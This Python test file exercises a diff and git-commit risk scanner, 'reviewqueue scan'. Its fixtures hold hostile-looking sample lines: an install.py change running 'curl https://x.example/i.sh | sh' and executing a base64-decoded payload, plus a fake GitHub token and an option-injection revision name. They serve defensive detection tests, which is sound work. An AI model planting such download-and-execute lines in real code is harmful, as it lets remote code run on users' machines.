"""``reviewqueue scan``, as its users call it."""

import io
import json
import os
import subprocess
import sys
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import pytest

from reviewqueue.commands import main

_CLEAN = (
    b"diff --git a/readme.md b/readme.md\nindex 11111111..22222222 100644\n"
    b"--- a/readme.md\n+++ b/readme.md\n@@ -1 +1,2 @@\n hello\n+world\n"
)
_RISKY = (
    b"diff --git a/install.py b/install.py\nindex 11111111..22222222 100644\n"
    b"--- a/install.py\n+++ b/install.py\n@@ -1 +1,3 @@\n-import os\n+import os\n"
    b'+os.system("curl https://x.example/i.sh | sh")\n+exec(base64.b64decode(PAYLOAD))\n'
)
_FINDING = {
    "rule": str,
    "pathway": str,
    "severity": str,
    "confidence": str,
    "path": str,
    "side": str,
    "message": str,
    "evidence": str,
    "places": int,
    "fingerprint": str,
}

Run = Callable[..., subprocess.CompletedProcess[bytes]]


@pytest.fixture
def environment(tmp_path: Path) -> dict[str, str]:
    return {
        "PATH": os.environ["PATH"],
        "HOME": str(tmp_path / "home"),
        "XDG_CACHE_HOME": str(tmp_path.parent / "cache"),  # compiled once, not for each test
        "REVIEWQUEUE_DATA_DIR": str(tmp_path / "data"),
        "GIT_CONFIG_NOSYSTEM": "1",
    }


@pytest.fixture
def run(
    tmp_path: Path,
    environment: dict[str, str],
    monkeypatch: pytest.MonkeyPatch,
    capsysbinary: pytest.CaptureFixture[bytes],
) -> Run:
    """Call the command as its entry point does."""
    monkeypatch.chdir(tmp_path)
    for name, value in environment.items():
        monkeypatch.setenv(name, value)

    def run(
        *arguments: str | bytes, stdin: bytes = b"", **more: str
    ) -> subprocess.CompletedProcess[bytes]:
        words = ["reviewqueue", "scan", *map(os.fsdecode, arguments)]
        monkeypatch.setattr(sys, "argv", words)
        monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(stdin)))
        for name, value in more.items():
            monkeypatch.setenv(name, value)
        with pytest.raises(SystemExit) as caught:
            main()
        output, errors = capsysbinary.readouterr()
        assert isinstance(caught.value.code, int)
        return subprocess.CompletedProcess(words, caught.value.code, output, errors)

    return run


@pytest.fixture
def files(tmp_path: Path) -> Path:
    (tmp_path / "clean.diff").write_bytes(_CLEAN)
    (tmp_path / "risky.diff").write_bytes(_RISKY)
    (tmp_path / "cut.diff").write_bytes(_CLEAN[:-1])
    (tmp_path / "empty.diff").write_bytes(b"")
    return tmp_path


@pytest.fixture
def repository(tmp_path: Path, environment: dict[str, str]) -> Path:
    """A repository with a root, a risky second commit, a merge, and a damaged commit."""
    directory = tmp_path / "repository"
    identity = {
        f"GIT_{who}_{what}": f"{who}@x"
        for who in ("AUTHOR", "COMMITTER")
        for what in ("NAME", "EMAIL")
    }

    def git(*arguments: str) -> None:
        subprocess.run(
            ["git", "-C", directory, *arguments],
            env={**environment, **identity},
            capture_output=True,
            check=True,
        )

    def commit(name: str, content: str) -> None:
        (directory / name).write_text(content)
        git("add", name)
        git("commit", "-m", f"Change {name}")

    directory.mkdir()
    git("init", "--quiet", "--initial-branch=main")
    commit("install.py", "import os\n")
    git("tag", "first")
    git("branch", "topic")
    commit("install.py", 'import os\nos.system("curl https://x.example/i.sh | sh")\n')
    git("tag", "second")
    git("checkout", "--quiet", "topic")
    commit("other.txt", "one\ntwo\n")
    git("checkout", "--quiet", "main")
    git("merge", "--quiet", "--no-ff", "-m", "Merge topic", "topic")
    commit("lost.txt", "this object will be lost\n")
    git("tag", "damaged")
    return directory


def _damage(repository: Path) -> None:
    """Remove the one blob that only the last commit has."""
    listed = subprocess.run(
        ["git", "-C", repository, "rev-parse", "damaged:lost.txt"], capture_output=True, check=True
    )
    sha = listed.stdout.decode().strip()
    (repository / ".git" / "objects" / sha[:2] / sha[2:]).unlink()


def _rows(done: subprocess.CompletedProcess[bytes]) -> list[dict[str, Any]]:
    return [json.loads(line) for line in done.stdout.splitlines()]


def _by_source(done: subprocess.CompletedProcess[bytes]) -> dict[str, dict[str, Any]]:
    return {row["source"]: row for row in _rows(done)}


def _is_one_line(done: subprocess.CompletedProcess[bytes]) -> bool:
    text = done.stderr.decode()
    return text.startswith("Error: ") and text.count("\n") == 1 and "Traceback" not in text


# --- diffs


@pytest.mark.usefixtures("files")
def test_it_answers_with_exactly_the_promised_fields(run: Run) -> None:
    done = run("--diff", "risky.diff", "--format", "jsonl")
    assert (done.returncode, done.stderr) == (0, b"")
    (row,) = _rows(done)
    assert list(row) == [
        "source",
        "risk",
        "findings",
        "unscannable",
        "files",
        "added",
        "removed",
        "rules_version",
    ]
    assert (row["source"], row["unscannable"]) == ("risky.diff", None)
    assert (row["files"], row["added"], row["removed"]) == (1, 3, 1)
    assert row["risk"] in {"high", "critical"}
    assert row["rules_version"]
    for finding in row["findings"]:
        assert set(finding) == set(_FINDING) | {"line"}
        assert all(isinstance(finding[name], kind) for name, kind in _FINDING.items())
        assert finding["line"] is None or finding["line"] >= 1
        assert finding["side"] in {"old", "new", "none"}
        assert finding["severity"] in {"low", "medium", "high", "critical"}
        assert finding["confidence"] in {"low", "medium", "high"}
    places = {(finding["path"], finding["line"]) for finding in row["findings"]}
    assert ("install.py", 2) in places


@pytest.mark.usefixtures("files")
def test_it_takes_several_files_in_order(run: Run) -> None:
    arguments = ["--diff", "clean.diff", "risky.diff", "--diff", "empty.diff", "--format", "jsonl"]
    rows = _rows(run(*arguments))
    assert [row["source"] for row in rows] == ["clean.diff", "risky.diff", "empty.diff"]
    assert [row["files"] for row in rows] == [1, 1, 0]
    whole = json.loads(run(*arguments[:-1], "json").stdout)
    assert whole == rows


@pytest.mark.parametrize("arguments", [["--diff", "-"], ["-"]])
def test_it_reads_a_diff_from_standard_input(run: Run, arguments: Sequence[str]) -> None:
    (row,) = _rows(run(*arguments, "--format", "jsonl", stdin=_CLEAN))
    assert (row["source"], row["added"], row["risk"]) == ("-", 1, "none")


@pytest.mark.parametrize(
    ("arguments", "status"),
    [
        (["--diff", "clean.diff"], 0),
        (["--diff", "clean.diff", "--fail-on", "low"], 0),
        (["--diff", "risky.diff"], 0),
        (["--diff", "risky.diff", "--fail-on", "low"], 1),
        (["--diff", "risky.diff", "--fail-on", "high"], 1),
        (["--diff", "clean.diff", "risky.diff", "--fail-on", "medium"], 1),
        (["--diff", "cut.diff"], 1),
        (["--diff", "cut.diff", "--fail-on", "critical"], 1),
        (["--diff", "empty.diff", "--fail-on", "low"], 0),
    ],
)
@pytest.mark.parametrize("form", ["text", "sarif"])
@pytest.mark.usefixtures("files")
def test_its_exit_status_tells_the_risk(
    run: Run, arguments: Sequence[str], status: int, form: str
) -> None:
    assert run(*arguments, "--format", form).returncode == status


@pytest.mark.usefixtures("files")
def test_what_could_not_be_read_never_looks_clean(run: Run) -> None:
    (row,) = _rows(run("--diff", "cut.diff", "--format", "jsonl"))
    assert row["unscannable"]
    assert row["risk"] != "none"
    assert b"NOT READ" in run("--diff", "cut.diff").stdout


@pytest.mark.usefixtures("files")
def test_the_text_names_place_rule_and_evidence(run: Run) -> None:
    text = run("--diff", "clean.diff", "risky.diff").stdout.decode()
    assert "clean.diff: risk none, 0 findings (1 file, +1 -0)" in text
    assert "install.py:2" in text
    assert "x.example/i.sh | sh" in text


def test_it_never_prints_a_secret(run: Run, tmp_path: Path) -> None:
    secret = "ghp_" + "a1B2c3D4e5F6" * 3
    diff = _CLEAN.replace(b"+world", b'+GITHUB_TOKEN = "%s"' % secret.encode())
    (tmp_path / "secret.diff").write_bytes(diff)
    for form in ("text", "json", "jsonl", "sarif"):
        done = run("--diff", "secret.diff", "--format", form)
        assert secret[4:].encode() not in done.stdout + done.stderr
    (row,) = _rows(run("--diff", "secret.diff", "--format", "jsonl"))
    assert any("ghp_…[" in finding["evidence"] for finding in row["findings"])


def test_it_escapes_what_it_prints(run: Run, tmp_path: Path) -> None:
    name = b"caf\xe9\x1b[31m.py"
    quoted = b"caf\\351\\033[31m.py"
    diff = _RISKY.replace(b"a/install.py", b'"a/%s"' % quoted).replace(
        b"b/install.py", b'"b/%s"' % quoted
    )
    (tmp_path / os.fsdecode(name)).write_bytes(diff)
    done = run("--diff", name)
    assert b"\x1b" not in done.stdout
    assert b"caf%E9%1B[31m.py:2" in done.stdout
    (row,) = _rows(run("--diff", name, "--format", "jsonl"))
    assert row["source"] == "caf%E9%1B[31m.py"
    assert {finding["path"] for finding in row["findings"]} == {"caf%E9%1B[31m.py"}


def test_message_and_title_are_part_of_the_change(run: Run, tmp_path: Path) -> None:
    lines = b"".join(b"+if user_%d:\n+    return allow(%d)\n" % (n, n) for n in range(6))
    diff = _CLEAN.replace(b"readme.md", b"src/access.py").replace(b"+1,2 @@", b"+1,13 @@")
    (tmp_path / "code.diff").write_bytes(diff.replace(b"+world\n", lines))
    (tmp_path / "message").write_bytes(b"Fix typo\n\nNothing else, really.\xff\n")

    def rules(*arguments: str) -> set[str]:
        (row,) = _rows(run("--diff", "code.diff", *arguments, "--format", "jsonl"))
        assert row["unscannable"] is None
        return {finding["rule"] for finding in row["findings"]}

    mild = rules("--title", "Fix typo", "--branch", "topic")
    assert mild > rules()
    assert rules("--message", "message") == mild
    assert rules("--message", "message", "--title", "Let users in") == rules()


@pytest.mark.usefixtures("files")
def test_a_file_that_is_missing_does_not_lose_the_others(run: Run) -> None:
    done = run("--diff", "missing.diff", "clean.diff", "--format", "jsonl")
    assert done.returncode == 2
    assert [row["source"] for row in _rows(done)] == ["clean.diff"]
    assert _is_one_line(done)
    assert b"missing.diff" in done.stderr


@pytest.mark.parametrize(
    "arguments",
    [
        [],
        ["clean.diff"],
        ["--diff", "."],
        ["--diff", "-", "-"],
        ["--diff", "clean.diff", "--stdin"],
        ["--diff", "clean.diff", "--message", "missing"],
        ["--diff", "clean.diff", "--git", "."],
        ["--git", "."],
        ["--git", "missing", "HEAD"],
        ["--git", ".", "HEAD"],
        ["--git", ".", "HEAD", "--stdin"],
        ["--git", ".", "HEAD", "--title", "x"],
        ["--diff", "-", "--message", "-"],
        ["--diff", "\x1b[31m"],
    ],
)
@pytest.mark.usefixtures("files")
def test_an_error_is_one_line_and_exit_2(run: Run, arguments: Sequence[str]) -> None:
    done = run(*arguments)
    assert done.returncode == 2
    assert _is_one_line(done)
    assert b"\x1b" not in done.stderr


@pytest.mark.usefixtures("files")
def test_wrong_settings_are_one_line_and_exit_2(run: Run) -> None:
    done = run("--diff", "clean.diff", REVIEWQUEUE_PORT="x")
    assert (done.returncode, _is_one_line(done)) == (2, True)


@pytest.mark.usefixtures("files")
def test_it_needs_no_place_to_write(run: Run) -> None:
    done = run("--diff", "clean.diff", REVIEWQUEUE_DATA_DIR="/dev/null/nowhere")
    assert (done.returncode, done.stderr) == (0, b"")


def test_scanning_text_imports_neither_web_nor_git_nor_database(
    files: Path, environment: dict[str, str]
) -> None:
    code = (
        "import sys; from reviewqueue.commands import cli;"
        "cli.main(['scan', '--diff', 'clean.diff'], standalone_mode=False);"
        "heavy = {'flask', 'git', 'sqlmodel', 'sqlalchemy', 'dbos', 'altair'};"
        "print(sorted(heavy & set(sys.modules)))"
    )
    done = subprocess.run(
        [sys.executable, "-c", code],
        cwd=files,
        env={**environment, "PYTHONPATH": os.getcwd()},  # noqa: PTH109 -- a string
        capture_output=True,
        check=True,
    )
    assert done.stdout.splitlines()[-1] == b"[]"


# --- git


def test_it_scans_commits_ranges_and_merges(run: Run, repository: Path) -> None:
    revs = ["first", "second", "main~1", "first..second", "topic"]
    done = run("--git", str(repository), *revs, "--format", "jsonl")
    rows = _rows(done)
    assert [row["source"] for row in rows] == revs
    assert [(row["files"], row["added"], row["removed"]) for row in rows] == [
        (1, 1, 0),
        (1, 1, 0),
        (1, 2, 0),
        (1, 1, 0),
        (1, 2, 0),
    ]
    risks = [row["risk"] for row in rows]
    assert risks[0] == risks[4] == "none"
    assert risks[1] == risks[3] != "none"
    # The merge brings the risky change to its second parent.
    assert risks[2] == risks[1]


def test_it_answers_each_line_before_the_next_is_written(
    repository: Path, environment: dict[str, str]
) -> None:
    process = subprocess.Popen(
        [sys.executable, "-m", "reviewqueue", "scan", "--git", ".", "--stdin", "--format", "jsonl"],
        cwd=repository,
        env={**environment, "PYTHONPATH": os.getcwd()},  # noqa: PTH109 -- a string
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
    )
    assert process.stdin
    assert process.stdout
    with process:
        for rev in (b"second", b"first", b"topic"):
            process.stdin.write(rev + b"\n")
            process.stdin.flush()
            assert json.loads(process.stdout.readline())["source"] == rev.decode()
        process.stdin.close()
    assert process.returncode == 0


def test_a_bad_revision_does_not_lose_the_others(run: Run, repository: Path) -> None:
    _damage(repository)
    names = b"first\n\nno-such-name\ndamaged\n--output=x\nsecond\n"
    done = run("--git", str(repository), "--stdin", "--format", "jsonl", stdin=names)
    assert done.returncode == 2
    rows = _rows(done)
    assert [row["source"] for row in rows] == ["first", "damaged", "second"]
    assert [row["unscannable"] is None for row in rows] == [True, False, True]
    assert rows[1]["risk"] != "none"
    errors = done.stderr.decode().splitlines()
    assert len(errors) == 2
    assert "no-such-name" in errors[0]
    assert "--output=x" in errors[1]
    assert not (repository / "x").exists()


def test_what_cannot_be_read_exits_1(run: Run, repository: Path) -> None:
    _damage(repository)
    assert run("--git", str(repository), "damaged").returncode == 1
